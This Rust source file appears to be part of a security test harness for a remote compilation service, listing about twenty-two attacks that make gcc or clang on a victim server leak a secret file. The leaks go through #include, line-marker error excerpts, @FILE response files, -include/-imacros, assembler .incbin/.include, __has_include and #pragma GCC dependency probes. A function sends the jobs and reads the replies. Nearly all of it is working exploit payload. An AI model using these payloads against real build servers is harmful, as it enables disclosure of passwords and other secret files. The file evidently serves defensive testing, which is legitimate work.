//! Ways to have a file of the server told.

use crate::attack::{Attack, Scene};
use crate::run::{contains, job};
use crate::victim::PATIENCE;
use crate::wire::{expanded, read_answer, send};

const INCLUDE: &str = "#include \"{secret}\"\n";
const NOTHING: &str = "int x;\n";
/// An error in the line of a file that somebody else wrote: compilers show that line.
const EXCERPT: &str = "# 1 \"{secret}\"\nint x = oops;\n";
/// Makes an object with a word that the source has in two parts.
const EXISTS: &str =
    "#if __has_include(\"{secret}\")\nasm(\".ascii \\\"found\\\" \\\"it\\\"\");\n#endif\n";

pub(super) const ATTACKS: &[Attack] = &[
    Attack::leaks("-x c, #include", &["gcc", "-x", "c"], INCLUDE),
    Attack::leaks("a line marker's excerpt", &["gcc"], EXCERPT),
    Attack::leaks("a line marker's excerpt, g++", &["g++"], EXCERPT),
    Attack::leaks("#include in what clang takes for preprocessed", &["clang"], INCLUDE),
    Attack::leaks("@FILE", &["gcc", "@{secret}"], NOTHING),
    Attack::leaks("-Wa,@FILE", &["gcc", "-Wa,@{secret}"], NOTHING),
    Attack::leaks("-x c -include", &["gcc", "-x", "c", "-include", "{secret}"], NOTHING),
    Attack::leaks(
        "-x c -imacros",
        &["gcc", "-x", "c", "-imacros", "{secret}"],
        "char *p = PASSWORD;\n",
    ),
    Attack::leaks("-Wp,-include", &["gcc", "-x", "c", "-Wp,-include,{secret}"], NOTHING),
    Attack::leaks("-fno-preprocessed", &["gcc", "-fno-preprocessed"], INCLUDE),
    Attack::leaks("-fdirectives-only", &["gcc", "-fdirectives-only"], INCLUDE),
    Attack::leaks("-Xassembler @FILE", &["gcc", "-Xassembler", "@{secret}"], NOTHING),
    Attack::leaks(
        "-fsanitize-ignorelist=",
        &["clang", "-fsanitize=address", "-fsanitize-ignorelist={secret}"],
        NOTHING,
    ),
    Attack::leaks(
        "-Xclang -ivfsoverlay",
        &["clang", "-Xclang", "-ivfsoverlay", "-Xclang", "{secret}"],
        NOTHING,
    ),
    Attack::leaks("--config FILE", &["clang", "--config", "{secret}"], NOTHING),
    Attack::finds("clang's __has_include", &["clang"], EXISTS),
    Attack::finds("gcc's __has_include by -x c", &["gcc", "-x", "c"], EXISTS),
    Attack::behaves("#pragma GCC dependency", tells_whether_there_is_a_file),
    Attack::leaks(".incbin, gcc", &["gcc"], "asm(\".incbin \\\"{secret}\\\"\");\n").needs_cage(),
    Attack::leaks(".incbin, clang", &["clang"], "asm(\".incbin \\\"{secret}\\\"\");\n")
        .needs_cage(),
    Attack::leaks(".include, gcc", &["gcc"], "asm(\".include \\\"{secret}\\\"\");\n").needs_cage(),
    Attack::leaks(".include, clang", &["clang"], "asm(\".include \\\"{secret}\\\"\");\n")
        .needs_cage(),
];

/// Does gcc say of one file that it is there, and of another that it is not?
fn tells_whether_there_is_a_file(scene: &Scene) -> bool {
    let says_no = |path: &str| {
        // Behind the line that gcc begins every such text with.
        let source = format!("# 0 \"main.c\"\n#pragma GCC dependency \"{path}\"\nint x;\n");
        let request = job(scene.victim, scene.protocol, &["gcc", "-fdirectives-only"], &source);
        let (answer, _) = read_answer(&mut send(scene.victim, &request), PATIENCE);
        contains(&expanded(scene.protocol, &answer, 1 << 20), b"No such file")
    };
    says_no("{secret}x") && !says_no("{secret}")
}
